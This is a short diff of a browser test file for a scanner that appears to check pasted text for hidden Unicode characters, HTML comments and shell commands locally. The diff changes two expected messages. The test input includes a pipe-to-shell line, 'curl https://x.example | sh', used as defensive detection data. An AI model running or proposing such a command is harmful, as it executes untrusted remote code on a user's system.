@@ -12,7 +12,7 @@ test('a pasted file is looked at in the browser and sent nowhere', async () => {
 	const asked: string[] = []
 	page.on('request', (request) => !request.url().endsWith('.svg') && asked.push(request.url()))
 	await page.fill('#text', 'One\nhid\u200bden\u{e0041}\n<!-- two -->\ncurl https://x.example | sh\n')
-	await page.locator('#verdict', { hasText: '5 lines looked at. 4 findings.' }).waitFor()
+	await page.locator('#verdict', { hasText: '5 lines checked. 4 findings.' }).waitFor()
 	expect(await page.locator('#report [data-line]').allTextContents()).toEqual(['2', '2', '3', '4'])
 	expect(await page.locator('#report mark').allTextContents()).toEqual(['U+200B', 'U+E0041'])
 	await page.locator('#report [data-line="4"]').click()
@@ -33,7 +33,7 @@ test('a file of the machine is opened, and one that is no text is not', async ()
 	await choose('a.md', [0xef, 0xbb, 0xbf, 0x61])
 	await page.locator('#report mark', { hasText: 'U+FEFF' }).waitFor()
 	await choose('a.png', [0x89, 0xff, 0x00])
-	await page.locator('#verdict', { hasText: 'a.png is no text in UTF-8' }).waitFor()
+	await page.locator('#verdict', { hasText: 'a.png is not UTF-8 text' }).waitFor()
 	await context.close()
 })
 
